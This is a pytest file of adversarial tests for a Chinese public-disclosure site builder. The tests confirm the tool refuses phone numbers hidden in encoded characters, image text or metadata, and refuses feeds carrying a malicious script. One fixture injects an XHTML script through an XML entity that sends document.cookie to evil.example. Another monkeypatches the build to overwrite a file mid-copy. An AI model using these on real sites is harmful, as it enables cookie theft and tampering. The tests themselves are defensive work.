"""Round twenty-four of the adversarial review (issue 24): a careless or hostile editor writing content/, a
compromised department CI job writing build/units/<id>/, a hostile page given to `disclosure import`. Each test goes
through the real command (`disclosure check`, `mkdocs build --strict`, `disclosure merge`) and failed on main before
its fix.

Numbers as people write them (privacy/numbers.py `_references_shown`) —
- fixed: a mobile written in Chinese numerals, circled digits, 大写, superscripts, Arabic-Indic or mathematical digits as
  character references (&#x4e00;&#x4e09;&#x516b;〇〇…, &#x2460;…, &sup1;): a browser shows 一三八〇〇一三八〇〇〇 whole;
  check and strict build passed and published it. Only references to ASCII and full-width digits were read as
  digits. Now E400 on the line (E700 in the merge); a report's masked name masks
  the number whole (`masked_text`: masked as written, the rest of the references was printed). The merge already
  refused such a unit page (guard kept).
- fixed (same reading): a link tel:&#37;31%33%38… (the escapes' "%" written as a character reference; a browser
  decodes the reference first, then the address: it dials 13800138000): check and strict build published it. A
  reference to "%" is now shown, and the digits' escapes after it decoded. The merge refused such a unit page (guard).
- fixed (privacy/numbers.py `_pictures_shown`, text/html_text.py `_ReaderText`): a mobile completed by a picture's
  text, 138<img alt="0013">8000 or 138![0013](files/a.png)8000 (the picture's file no picture a browser draws, so its
  text shows in its place; a screen reader reads it there), or two pictures' texts side by side: check and strict build
  published it, and the merge took it from a unit's page (its quick look, rules/personal_data/published.py `_BLOCK_TAG`,
  took <img> for a block though the reader's text runs through it). 1380013![](files/a.png)8000 was refused by the
  build only; now by the check too. A picture's text beside figures (图1![2024年]…) stays.

Pictures (privacy/attachments.py `_metadata_segments`) —
- fixed: a PNG's compressed iTXt (Pillow's add_itxt(zip=True); Pillow's .info shows it) was never inflated: its fields
  were split at zero bytes and the compression method's byte is zero. A PNG's private chunk and text after a PNG's
  IEND or a JPEG's end of image (strings, a text editor) were not read, where GIF, TIFF, WebP and BMP were. E400 now
  (E700 for a unit's picture).

A compromised department CI job (rules/rendered.py `published_file_problem`) —
- fixed: a unit's feed.xml (or any .xml it hands over) with a document type whose entity writes an XHTML <script> by
  character references (xml&#110;s:h=…): no xmlns attribute for the namespace check to see; Chromium expands the
  entity and runs the script when the feed is opened (tried with chromium --dump-dom). Merged with exit 0; now E700.
  The build writes no document type into a feed or sitemap. (The shipped nginx and IIS configurations' CSP blocks
  an inline script; a site served without them, GitHub or GitLab Pages, runs it.)
- fixed (text/html_text.py `BLOCK_ELEMENTS`): a unit's page with a mobile run through an element the reader's text
  set apart though a browser draws it inline, 1380013<big>8000</big> (<tt>, <nobr>, <strike>, <acronym>, <label>,
  <output>, <button>, a custom <x-note>): the reader's text listed the inline elements and took every other for a
  block. It now lists the blocks (unknown elements are inline to a browser); the merge's quick look
  (rules/personal_data/published.py `_BLOCK_TAG`) and the source's fold (privacy/numbers.py `_INLINE_TAG`) use the
  same list. Merged with exit 0; now E700.
- held: .css, .js, .mjs, .svg, .xhtml, .shtml, .md, .webmanifest and files without an extension in a unit's output
  (E700, not a type a unit writes); a feed with <?xml-stylesheet?> or an XHTML <h:script>/<h:img> (E700); a page
  loading from another host by <track>, SVG <use>/<feImage>, mask-image, cursor, list-style, <embed>, <audio>,
  <picture><source>, speculation rules, an SVG <script href>, a javascript: MathML href, formaction, a src with a
  line break or &colon;, an escaped @font-face url (E700). Not refused, harmless: itemtype (never fetched),
  <meta http-equiv="Link"> (no browser reads it).

Import (`disclosure import`) —
- fixed (importer/body.py `BrowserClosingSoup`): 公开属性：<ruby>主动公开<rt>不予公开</rt></ruby> was imported as public:
  Beautiful Soup's get_text leaves the text of <rt> out, though every browser shows the annotation.
- fixed (importer/openness.py `generated_statements`): 公开属性：主动公开 followed by （不予公开） that a ::after rule of
  the page's style (or a stylesheet saved with it, escaped, or attr(data-note)) writes in: imported as public. A
  withholding text a rule generates is now one more statement (W801); icons and other generated text stay.
- fixed (importer/openness.py `left_out_notes`): the 附注 after the body written in what the import leaves out of the
  Markdown though a reader saw it: a <textarea>, an <input>'s value, a <button>, a <select>'s option, SVG or MathML
  text, an <object>'s fallback, a <marquee>, a table's <caption>, a picture's alt with no picture: dropped with its
  element, the page imported as public. Those elements' lines are read for a note before they go (W801). A caption,
  control or picture without a note keeps the page public.
- held: attachment links out of the imported folder written with %2F, %2e%2e, ?query, #fragment, character
  references, file://, a/../../.., a backslash (E801 or "not saved with the page", never copied); 公开属性 values
  公开, 主动<sup>不予</sup>公开, <s>主动公开</s> 依申请公开 (withheld, W801).
- note: test_import.run_import gives the command an environment without PYTHONPATH, so in a worktree the import
  tests run the installed main's code; this file's `_import` runs this checkout's.

The editor, held: personal data in every written form tried (spaced, dashed, dotted, full-width, Chinese numerals and
大写, 幺, circled, superscript, mathematical and Arabic-Indic digits, look-alike letters, an X as ×/Χ/ｘ) apart from the
references above; in a folder or file name, a link's fragment; mkdocs.yml's repo_url, edit_uri, theme.favicon and
logo from another host, Google fonts, analytics, copyright and repo_name with a number (E404/E401/E400 in check and
build); front matter with duplicate keys, a merge key, a tag, a quoted, escaped or complex key, flow style, a BOM;
a cached check after an attachment changed (read again). Left as is: digits grouped 3-3-3-3-3-3 or separated by ，/、
are not read as one number (lists of figures are written so).

The check against the build (rules/files.py `_emoji_from_another_host`) —
- fixed: pymdownx.emoji with its default generators writes :smile: as a picture from a CDN: the build refused the
  rendered page (E404), the check passed it. Now E404 on the extension's line in both; to_alt (the character) stays.
  Material's to_svg (round eighteen's allowed setting) inlines its icons but takes a twemoji from jsdelivr: such a
  page is still refused by the build's rendered check only (open: the check would have to know the emoji's index).

Files changed between the check and the build (round twenty-three's leftover) —
- fixed (mkdocs_adapter/copies.py, privacy/attachments.py `read_digest`): the build checks content/ when it starts and
  MkDocs copies the attachments from the disk much later: one written over in between (planted at MkDocs' own copy)
  was published unread, a mobile in it. Each copy is now compared with the bytes the checks read: E111, site/ kept.
  A page's Markdown is read again by MkDocs too, but its rendered HTML is checked itself (E400/E401/E404) and compared
  with the checked body (E600), so a page changed so is refused already; `disclosure check` before the build is never
  trusted (the build runs every check itself).

Round twenty-three's other leftover, settled without a change: `    <!-- 注释 -->` (indented four spaces) is no false
positive. This site reads a line's leading spaces as a first-line indent (text/paragraphs.py: an indented line never
turns into a code block), so the comment is rendered as a comment into the page's source; E401 in check and build.
"""

from __future__ import annotations

import pytest

from .batchkit import Cases, MergedCases, assert_case_refused, cases_site, checked_and_built, imported_cases, merged_cases, page_of_case
from .sitekit import HOST, build, write_site
from .test_redteam22 import _notice, _refused, _site
from .test_redteam6 import MOBILE, MOBILE_MASKED, _seal


def _references(text: str, form: str) -> str:
    return "".join(form.format(ord(char)) for char in text)


# 13800138000 in forms a reader reads as its digits, each written as character references.
SPELLED_MOBILES = {
    "chinese-numerals-hex": _references("一三八〇〇一三八〇〇〇", "&#x{:x};"),
    "chinese-numerals-decimal-no-semicolon": _references("一三八零零一三八零零零", "&#{}"),
    "capitals": _references("壹叁捌零零壹叁捌零零零", "&#{};"),
    "circled": _references("①③⑧⓪⓪①③⑧⓪⓪⓪", "&#x{:x};"),
    "mathematical": _references("𝟏𝟑𝟖𝟎𝟎𝟏𝟑𝟖𝟎𝟎𝟎", "&#x{:x};"),
    "arabic-indic": _references("١٣٨٠٠١٣٨٠٠٠", "&#{};"),
    "half-written": "&#x4e00;&#x4e09;&#x516b;〇〇一三八〇〇〇",
    "named-superscript": "&sup1;3800138000",
}


@pytest.mark.parametrize("name", sorted(SPELLED_MOBILES))
def test_a_number_spelled_by_character_references_is_refused(notices, name):
    assert_case_refused(notices, f"spelled {name}", "notices/p.md", "E400", 9)


DATES_AND_AMOUNTS = ("现将有关情况通知如下。\n\n&#x4e8c;&#x3007;&#x4e8c;&#x56db;年&#x4e09;月，共安排资金&#x4e00;千二百万元，"
                     "见第&#x5341;&#x4e8c;条、第&#x2460;项。\n")


def test_dates_and_amounts_written_as_references_stay(guards):
    _case_published(guards, "dates and amounts")


SEALED_SPELLED = ["chinese-numerals-hex", "circled"]


@pytest.mark.parametrize("name", SEALED_SPELLED)
def test_a_sealed_page_with_a_number_spelled_by_character_references_is_refused(sealed, name):
    _refused_on_a_sealed_page(sealed, f"spelled {name}")


def _refused_on_a_sealed_page(sealed, case: str) -> None:
    """The 教育局's job added the case's paragraph to its copy of the guide's page and sealed it: the merge refuses the
    mobile in it (every case's copy in one merge, batchkit.py)."""
    merged, files = sealed
    assert any(MOBILE_MASKED in line for line in merged.refused_lines(f"jyj/{files[case]}")), merged.run.output


# 13800138000 with a picture in it: its text in its place (shown where the picture is not drawn, read by a screen
# reader), or no text (the groups read on).
PICTURED_MOBILES = {
    "html-alt": '138<img alt="0013">8000',
    "html-alt-unquoted-capitals": "138<IMG ALT=0013 src=files/a.png>8000",
    "markdown-alt": "138![0013](files/a.png)8000",
    "markdown-reference-alt": "138![0013][a]8000\n\n[a]: files/a.png",
    "two-pictures": '<img alt="1380013"><img alt="8000">',
    "markdown-no-alt": "1380013![](files/a.png)8000",
}
PICTURE = b"\x89PNG\r\n\x1a\n"   # the start of a picture's file only: no picture a browser draws, so its text shows


@pytest.mark.parametrize("name", sorted(PICTURED_MOBILES))
def test_a_number_completed_by_a_pictures_text_is_refused(notices, name):
    assert_case_refused(notices, f"pictured {name}", "notices/p.md", "E400", 9)


BESIDE_FIGURES = ("现将有关情况通知如下。\n\n图1![2024年](files/a.png)共发放138![万元](files/a.png)，见<img alt=\"图2\" "
                  "src=\"files/a.png\">，电话0427-3417012。\n")


def test_pictures_beside_figures_stay(guards):
    _case_published(guards, "pictures beside figures")


SEALED_PICTURED = {"alt-between": '138<img alt="0013" src="../../assets/x.png">8000',
                   "two-alts": '<img alt="1380013"><img alt="8000">',
                   "picture-between": '1380013<img src="../../assets/x.png">8000'}


@pytest.mark.parametrize("name", SEALED_PICTURED)
def test_a_sealed_page_with_a_number_completed_by_a_picture_is_refused(sealed, name):
    _refused_on_a_sealed_page(sealed, f"pictured {name}")


# A unit's feed whose document type defines an entity that writes an XHTML script with character references
# (xml&#110;s:h=…): Chromium expands it on opening the feed and runs the script (tried with chromium --dump-dom).
_ENTITY_SCRIPT = ("<!DOCTYPE feed [\n<!ENTITY x \"&#60;h:script xml&#110;s:h='http://www.w3.org/1999/xhtml'&#62;"
                  "fetch('https://evil.example/'+document.cookie)&#60;/h:script&#62;\">\n]>\n")


FEEDS = ["jyj/jyj/feed.xml", "gov/gov/feed.xml"]


def _entity_script_in(platform, feed: str) -> None:
    path = platform / "build/units" / feed
    text = path.read_text(encoding="utf-8")
    start = text.index("<feed")
    path.write_text(text[:start] + _ENTITY_SCRIPT + text[start:].replace("</feed>", "&x;</feed>"), encoding="utf-8")


@pytest.mark.parametrize("feed", FEEDS)
def test_a_units_feed_writing_a_script_through_an_entity_is_refused(sealed, feed):
    merged, _ = sealed
    assert any("文档类型定义" in line for line in merged.refused_lines(feed)), merged.run.output


def test_an_indented_comment_is_a_comment_in_check_and_build(notices):
    assert_case_refused(notices, "indented comment", "notices/p.md", "E401", 9)


def _png(**chunks) -> bytes:
    """A real 8×8 PNG made by Pillow, with text chunks (`itxt`: compressed iTXt, as PngInfo.add_itxt(zip=True)
    writes an XMP or a comment) or a private chunk (`private`)."""
    import io
    import struct
    import zlib

    from PIL import Image, PngImagePlugin
    info = PngImagePlugin.PngInfo()
    if "itxt" in chunks:
        info.add_itxt("Comment", chunks["itxt"], zip=True)
    if "private" in chunks:
        body = chunks["private"].encode()
        info.add(b"prVt", body)
    out = io.BytesIO()
    Image.new("RGB", (8, 8), "white").save(out, "PNG", pnginfo=info)
    return out.getvalue()


def _jpeg() -> bytes:
    import io

    from PIL import Image
    out = io.BytesIO()
    Image.new("RGB", (8, 8), "white").save(out, "JPEG")
    return out.getvalue()


# What a program reads out of a picture that no reading of its text chunks or segments saw.
HIDDEN_IN_PICTURES = {
    "compressed-itxt": ("现场.png", lambda: _png(itxt=f"联系人手机{MOBILE}")),       # Pillow's .info, exiftool
    "private-chunk": ("现场.png", lambda: _png(private=f"联系人手机{MOBILE}")),      # strings, a text editor
    "after-png-end": ("现场.png", lambda: _png() + f"联系人手机{MOBILE}".encode()),
    "after-jpeg-end": ("现场.jpg", lambda: _jpeg() + f"联系人手机{MOBILE}".encode()),
}


@pytest.mark.parametrize("case", sorted(HIDDEN_IN_PICTURES))
def test_a_number_a_program_reads_out_of_a_picture_is_refused(notices, case):
    assert_case_refused(notices, f"hidden in a picture {case}", "notices/p.md", "E400", 9)


def test_pictures_with_their_usual_text_chunks_stay(guards):
    _case_published(guards, "usual text chunks")


UNIT_PICTURE = "jyj/jyj/guide/guide/现场.png"


def test_a_units_picture_with_a_compressed_comment_is_refused(sealed):
    merged, _ = sealed
    assert merged.refused_lines(UNIT_PICTURE), merged.run.output




SAVED = ("<html><head><meta charset='utf-8'><title>关于仓库检查情况的通知</title></head><body>"
         "<p>索引号：EX0001/2025-00700</p><p>发布日期：2025-04-01</p>{statement}<div class='zw'>"
         "<p>各单位：现将检查情况通报如下。</p><p>一是消防通道堆放杂物；二是值班记录不全。</p></div></body></html>")


RUBY_STATEMENTS = {"ruby": "<p>公开属性：<ruby>主动公开<rt>不予公开</rt></ruby></p>",
                   "ruby-with-brackets": "<p>公开属性：<ruby>主动公开<rp>（</rp><rt>依申请公开</rt><rp>）</rp></ruby></p>"}


@pytest.mark.parametrize("case", RUBY_STATEMENTS)
def test_a_saved_pages_openness_annotated_as_not_public_is_never_imported_as_public(imported, case):
    """A ruby annotation is shown by every browser above its text (主动公开 with 不予公开 written small over it)."""
    front = imported[f"ruby {case}"]
    assert front.get("disclosure") in ("不予公开", "依申请公开") and "主动公开" in front["reason"], front


GENERATED_STATEMENTS = {
    "after-the-value": ("<style>.o::after{content:'（不予公开）'}</style>", "<p>公开属性：<span class='o'>主动公开</span></p>"),
    "escaped": ('<style>.o:after{content:"\\FF08\\4E0D\\4E88" "公开）"}</style>', "<p>公开属性：<span class='o'>主动公开</span></p>"),
    "an-attribute": ("<style>.zw p:last-child::after{content:attr(data-note)}</style>",
                     "<p>公开属性：主动公开</p><p data-note='（此件不予公开）'></p>"),
    "a-linked-sheet": ("<link rel='stylesheet' href='p.css'>", "<p>公开属性：<span class='o'>主动公开</span></p>"),
}


@pytest.mark.parametrize("name", sorted(GENERATED_STATEMENTS))
def test_a_saved_pages_openness_its_style_writes_is_never_imported_as_public(imported, name):
    """What a ::before or ::after rule writes in (content: '（不予公开）', attr(data-note)) is shown to every reader."""
    front = imported[f"generated {name}"]
    assert front.get("disclosure") in ("不予公开", "依申请公开") and "网页样式生成的文字" in front["reason"], front


ICONS_STYLE = '<style>.o::before{content:"\\e601"}.zw p::after{content:""}.tip::after{content:"公开时间以发布日期为准"}</style>'


def test_a_saved_pages_icons_drawn_by_its_style_keep_it_public(imported):
    assert imported["icons"].get("disclosure", "主动公开") == "主动公开"


INLINE_ELEMENTS = ["big", "tt", "nobr", "strike", "acronym", "label", "output", "button", "x-note"]


@pytest.mark.parametrize("element", INLINE_ELEMENTS)
def test_a_sealed_page_with_a_number_run_through_an_inline_element_is_refused(sealed, element):
    """Obsolete, form and unknown elements are drawn on the line of the text around them, as <span> is."""
    _refused_on_a_sealed_page(sealed, f"inline {element}")


# Another program writes over the attachment after the build has checked it and before MkDocs copies it into the site
# (a sync tool, a second checkout, an editor saving while the build runs): planted at exactly that moment through
# the host's own copy (sitecustomize, read by the build's interpreter when it starts; the host's module by its own
# name: ProperDocs answers `mkdocs.*` imports only once it is imported itself).
_WRITER = '''
from {host}.structure import files as _files

_copy = _files.File.copy_file


def copy_file(self, dirty=False):
    if self.src_uri.endswith("名单.txt"):
        with open(self.abs_src_path, "w", encoding="utf-8") as out:
            out.write("张三 {mobile}\\\\n")
    return _copy(self, dirty)


_files.File.copy_file = copy_file
'''


def test_an_attachment_written_over_after_the_build_checked_it_is_not_published(tmp_path):
    import os
    body = "现将有关情况通知如下。\n\n见[名单](files/名单.txt)。\n"
    root = write_site(tmp_path / "site", _site({"notices/p.md": _notice(body), "notices/files/名单.txt": "名单待定\n"}))
    writer = tmp_path / "writer"
    writer.mkdir()
    (writer / "sitecustomize.py").write_text(_WRITER.format(host=HOST, mobile=MOBILE), encoding="utf-8")
    done = build(root, env={"PYTHONPATH": os.pathsep.join([str(writer), os.environ.get("PYTHONPATH", "")])})
    assert done.returncode != 0 and "Traceback" not in done.output, done.output
    assert any(line.startswith("content/notices/files/名单.txt:1: E111 ") for line in done.coded_lines()), done.output
    assert not (root / "site").exists()


_EMOJI = {"default": "  - pymdownx.emoji\n",
          "to-png": "  - pymdownx.emoji:\n      emoji_generator: !!python/name:pymdownx.emoji.to_png\n",
          "material-svg": ("  - pymdownx.emoji:\n      emoji_index: !!python/name:material.extensions.emoji.twemoji\n"
                           "      emoji_generator: !!python/name:material.extensions.emoji.to_svg\n"),
          "to-alt": "  - pymdownx.emoji:\n      emoji_generator: !!python/name:pymdownx.emoji.to_alt\n"}


def _emoji_site(tmp_path, name: str):
    root = write_site(tmp_path / name, _site({"notices/p.md": _notice("现将有关情况通知如下。:smile:\n")}))
    config = root / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8") + "markdown_extensions:\n" + _EMOJI[name], encoding="utf-8")
    return root


@pytest.mark.parametrize("name", ["default", "to-png"])
def test_emoji_drawn_from_another_host_are_refused_by_the_check_as_by_the_build(tmp_path, name):
    """The build refused the rendered page (E404, the CDN's picture); the check, which renders no page, passed it."""
    _refused(_emoji_site(tmp_path, name), "E404", "mkdocs.yml:")


def test_emoji_written_into_the_page_as_characters_stay(tmp_path):
    done = build(_emoji_site(tmp_path, "to-alt"))
    assert done.returncode == 0, done.output


LEFT_OUT_NOTES = {
    "textarea": "<textarea>（此件不予公开）</textarea>", "input": "<input value='（此件不予公开）'>",
    "button": "<button>（此件依申请公开）</button>", "select": "<select><option>（此件不予公开）</option></select>",
    "svg": "<svg><text x='0' y='15'>（此件不予公开）</text></svg>", "math": "<math><mtext>（此件不予公开）</mtext></math>",
    "object": "<object>（此件不予公开）</object>", "marquee": "<marquee>（此件不予公开）</marquee>",
    "caption": "<table><caption>（此件不予公开）</caption><tr><td>检查项目</td></tr></table>",
    "picture": "<img alt='（此件不予公开）'>",
}


@pytest.mark.parametrize("name", sorted(LEFT_OUT_NOTES))
def test_a_note_a_reader_sees_in_what_the_import_leaves_out_is_never_imported_as_public(imported, name):
    """The 附注 after the body, written in a control, SVG or MathML text, a fallback, a ticker, a caption or a picture's
    text: shown to every reader of the old page, dropped by the import with its element."""
    assert imported[f"left out {name}"].get("disclosure") in ("不予公开", "依申请公开")


CONTROLS = ("<table><caption>检查情况表（依申请公开的事项除外）</caption><tr><td>x</td></tr></table>"
            "<input value='搜索'><button>打印本页</button><img alt='现场照片' src='a.png'>")


def test_controls_and_captions_without_a_note_keep_the_page_public(imported):
    assert imported["controls"].get("disclosure", "主动公开") == "主动公开"


# An address's %-escapes whose "%" is written as a character reference: a browser decodes the reference first, so
# the link dials 13800138000 (and shows it on hover); every reading decoded the escapes only as written.
_REFERENCED_ESCAPES = "tel:&#37;31%33%38%30%30%31%33%38%30%30%30"


def test_a_number_escaped_in_a_link_behind_a_referenced_percent_is_refused(notices):
    assert_case_refused(notices, "referenced percent", "notices/p.md", "E400", 9)


def test_a_sealed_page_with_a_number_escaped_behind_a_referenced_percent_is_refused(sealed):
    _refused_on_a_sealed_page(sealed, "referenced percent")


# --- the cases above in four runs (batchkit.py): the notices checked and built in one site, the guards built in
# another, the saved pages imported in one run, the sealed pages' paragraphs (each in its own copy of the guide's
# page), the feeds and the picture merged once.

@pytest.fixture(scope="module")
def notices(tmp_path_factory) -> tuple[Cases, Cases]:
    cases = {f"spelled {name}": _site({"notices/p.md": _notice(f"现将有关情况通知如下。\n\n联系人：张某，手机{written}。\n")})
             for name, written in SPELLED_MOBILES.items()}
    cases |= {f"pictured {name}": _site({"notices/p.md": _notice(f"现将有关情况通知如下。\n\n联系人：张某，手机{shown}。\n"),
                                         "notices/files/a.png": PICTURE}) for name, shown in PICTURED_MOBILES.items()}
    cases["indented comment"] = _site({"notices/p.md": _notice("现将有关情况通知如下。\n\n    <!-- 内部备注 -->\n")})
    cases |= {f"hidden in a picture {case}": _site({"notices/p.md": _notice(f"现将有关情况通知如下。\n\n![现场照片](files/{name})\n"),
                                                    f"notices/files/{name}": make()})
              for case, (name, make) in HIDDEN_IN_PICTURES.items()}
    cases["referenced percent"] = _site({"notices/p.md": _notice(f"现将有关情况通知如下。\n\n值班电话见[这里]({_REFERENCED_ESCAPES})。\n")})
    return checked_and_built(cases_site(tmp_path_factory.mktemp("notices"), cases))


@pytest.fixture(scope="module")
def guards(tmp_path_factory) -> Cases:
    usual = "现将有关情况通知如下。\n\n![现场照片](files/a.png)\n\n![现场照片](files/b.jpg)\n"
    return cases_site(tmp_path_factory.mktemp("guards"), {
        "dates and amounts": _site({"notices/p.md": _notice(DATES_AND_AMOUNTS)}),
        "pictures beside figures": _site({"notices/p.md": _notice(BESIDE_FIGURES), "notices/files/a.png": PICTURE}),
        "usual text chunks": _site({"notices/p.md": _notice(usual), "notices/files/b.jpg": _jpeg(), "notices/files/a.png": _png(
            itxt="<x:xmpmeta><dc:title>仓库现场照片 2024-03-05</dc:title></x:xmpmeta>")}),
    }).built()


def _case_published(guards: Cases, case: str) -> None:
    """The guards' site built with exit 0 (a case's own build did), the case's notice published."""
    assert guards.run.returncode == 0, guards.run.output
    assert any(guards.root.joinpath("site", guards.folders[case], "notices").rglob("index.html"))


@pytest.fixture(scope="module")
def imported(tmp_path_factory) -> dict[str, dict]:
    """Every saved page above imported in one run, each from a folder of its own: the front matter written for each."""
    from .test_import import CMS_CATALOGUE, TABLES, front_and_body
    pages = {f"ruby {case}": SAVED.format(statement=statement) for case, statement in RUBY_STATEMENTS.items()}
    pages |= {f"generated {name}": SAVED.format(statement=statement).replace("</head>", style + "</head>")
              for name, (style, statement) in GENERATED_STATEMENTS.items()}
    pages["icons"] = SAVED.format(statement="<p>公开属性：<span class='o'></span>主动公开</p>").replace("</head>", ICONS_STYLE + "</head>")
    pages |= {f"left out {name}": SAVED.format(statement="").replace("</div></body>", note + "</div></body>")
              for name, note in LEFT_OUT_NOTES.items()}
    pages["controls"] = SAVED.format(statement="<p>公开属性：主动公开</p>").replace("</div></body>", CONTROLS + "</div></body>")
    folder = tmp_path_factory.mktemp("imported")
    root = write_site(folder / "site", {}, catalogue=CMS_CATALOGUE, mkdocs_extra=TABLES)
    sheet = ".o::after { content: '（依申请公开）' }\n"   # beside every page, as each test wrote it
    done, report = imported_cases(root, folder / "old", {case: {"p.html": page, "p.css": sheet} for case, page in pages.items()},
                                  "--type", "notice")
    assert done.returncode == 0 and "Traceback" not in done.output, done.output
    return {case: front_and_body(root / page["target"])[0] for case, page in report.items()}


def _sealed_paragraphs() -> dict[str, str]:
    paragraphs = {f"spelled {name}": f"<p>值班手机{SPELLED_MOBILES[name]}</p>" for name in SEALED_SPELLED}
    paragraphs |= {f"pictured {name}": f"<p>值班手机{shown}</p>" for name, shown in SEALED_PICTURED.items()}
    paragraphs |= {f"inline {element}": f"<p>值班手机1380013<{element}>8000</{element}></p>" for element in INLINE_ELEMENTS}
    paragraphs["referenced percent"] = f'<p><a href="{_REFERENCED_ESCAPES}">值班电话</a></p>'
    return paragraphs


@pytest.fixture(scope="module")
def sealed(merged_platform, tmp_path_factory) -> tuple[MergedCases, dict[str, str]]:
    """The merge of every sealed case, and each paragraph's copy of the guide page."""
    files: dict[str, str] = {}

    def attack(platform) -> None:
        output = platform / "build/units/jyj"
        for number, (case, paragraph) in enumerate(_sealed_paragraphs().items(), start=1):
            files[case] = page_of_case(output, "jyj/guide/guide/index.html", number)
            page = output / files[case]
            page.write_text(page.read_text(encoding="utf-8").replace("</main>", f"{paragraph}</main>", 1), encoding="utf-8")
        (platform / "build/units" / UNIT_PICTURE).write_bytes(_png(itxt=f"联系人手机{MOBILE}"))
        for feed in FEEDS:
            _entity_script_in(platform, feed)
        for unit in ("jyj", "gov"):
            _seal(platform, unit)
    return merged_cases(merged_platform, tmp_path_factory.mktemp("sealed") / "platform", attack), files
